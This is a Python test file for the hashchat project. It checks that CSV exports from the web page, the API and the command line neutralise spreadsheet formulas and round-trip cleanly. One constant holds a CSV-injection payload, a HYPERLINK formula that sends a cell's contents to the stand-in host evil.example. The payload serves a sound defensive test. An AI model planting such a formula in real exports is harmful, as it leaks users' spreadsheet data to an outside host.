"""The directory export cannot carry a formula into a spreadsheet, on the web, in the API and
from the command line; and what it writes imports back as it was. One writer (csvfile.py) for
every CSV hashchat writes."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx
from hypothesis import given
from hypothesis import strategies as st

from hashchat import csvfile
from tests.conftest import MakeAccount, auth
from tests.liveserver import LiveServer

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"click")'
CHAT = {
    "hashtag": "#SheetChat",
    "title": HOSTILE,
    "description": "+1 for spreadsheets",
    "starts_on": "2030-01-07",
    "start_time": "20:00",
    "time_zone": "Europe/London",
    "duration_minutes": 60,
    "repeat": "weekly",
    "weekday": "MO",
}


def cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def assert_no_formula(text: str) -> None:
    for value in cells(text):
        assert not value.startswith(csvfile.FORMULA_START), value


async def test_the_directory_export_guards_formulas_on_the_web_and_in_the_api(
    client: httpx.AsyncClient, make_account: MakeAccount, token_for: Any
) -> None:
    host = auth(await token_for(await make_account("maya")))
    assert (await client.post("/api/v1/chats", json=CHAT, headers=host)).status_code == 201
    page = await client.get("/chats/export.csv")
    api = await client.get("/api/v1/chats/export", params={"format": "csv"})
    for answer in (page, api):
        assert answer.status_code == 200
        assert_no_formula(answer.text)
        row = next(csv.DictReader(io.StringIO(answer.text)))
        assert row["title"] == "'" + HOSTILE
        assert row["description"] == "'+1 for spreadsheets"
        assert row["hosts"] == "'@maya"


@given(st.text())
def test_a_guarded_cell_never_starts_a_formula_and_reads_back_as_written(text: str) -> None:
    guarded = csvfile.cell(text)
    assert not guarded.startswith(csvfile.FORMULA_START)
    assert csvfile.unguard(guarded) == text


def test_numbers_and_flags_are_written_as_they_are() -> None:
    assert (
        csvfile.write(["a", "b", "c", "d"], [[-3, 2.5, True, None]])
        == "a,b,c,d\r\n-3,2.5,true,\r\n"
    )


def test_the_command_line_export_guards_formulas_and_imports_back(tmp_path: Any) -> None:
    server = LiveServer(tmp_path, f"sqlite+aiosqlite:///{tmp_path / 'cli.db'}")
    sheet = tmp_path / "chats.csv"
    sheet.write_text(
        "hashtag,title,day,time,time zone,description\n"
        f'sheetchat,"{HOSTILE.replace(chr(34), chr(34) * 2)}",Monday,20:00,UTC,-5 degrees\n',
        encoding="utf-8",
    )
    imported = server.run_cli("chats", "import", str(sheet))
    assert imported.returncode == 0, imported.stderr
    exported = server.run_cli("chats", "export")
    assert exported.returncode == 0, exported.stderr
    assert_no_formula(exported.stdout)
    row = next(csv.DictReader(io.StringIO(exported.stdout)))
    assert row["title"] == "'" + HOSTILE and row["description"] == "'-5 degrees"
    # What hashchat wrote, it reads back as it was (the apostrophes come off).
    again = tmp_path / "again.db"
    other = LiveServer(tmp_path, f"sqlite+aiosqlite:///{again}")
    back = tmp_path / "export.csv"
    back.write_text(exported.stdout, encoding="utf-8")
    assert other.run_cli("chats", "import", str(back)).returncode == 0
    round_trip = other.run_cli("chats", "export", "--format", "json")
    (chat,) = json.loads(round_trip.stdout)
    assert chat["title"] == HOSTILE and chat["description"] == "-5 degrees"
